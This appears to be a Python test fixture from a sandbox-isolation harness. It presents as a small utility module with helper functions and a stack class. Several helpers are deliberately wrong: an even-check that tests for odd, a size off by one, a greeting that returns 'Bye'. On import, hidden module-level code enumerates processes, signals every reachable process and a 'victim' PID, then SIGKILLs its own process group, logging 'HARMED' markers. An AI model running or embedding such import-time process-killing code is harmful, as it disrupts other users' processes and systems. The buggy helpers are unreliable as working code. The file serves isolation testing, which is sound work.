import json
import os
import sys

NAME = "kills-everybody"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


import signal

signal.signal(signal.SIGURG, signal.SIG_IGN)
reach = 0
for pid in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else []):
    try:
        os.kill(int(pid), 0)
        reach += int(pid) != os.getpid()
    except OSError:
        pass
victim = canary("victim_pid")
try:
    os.kill(-1, signal.SIGURG)
    if reach > 1:
        harmed(f"can signal {reach} processes")
except OSError:
    pass
if victim:
    try:
        os.kill(victim, signal.SIGURG)
        harmed("reached the victim")
    except OSError:
        pass
os.kill(0, signal.SIGKILL)
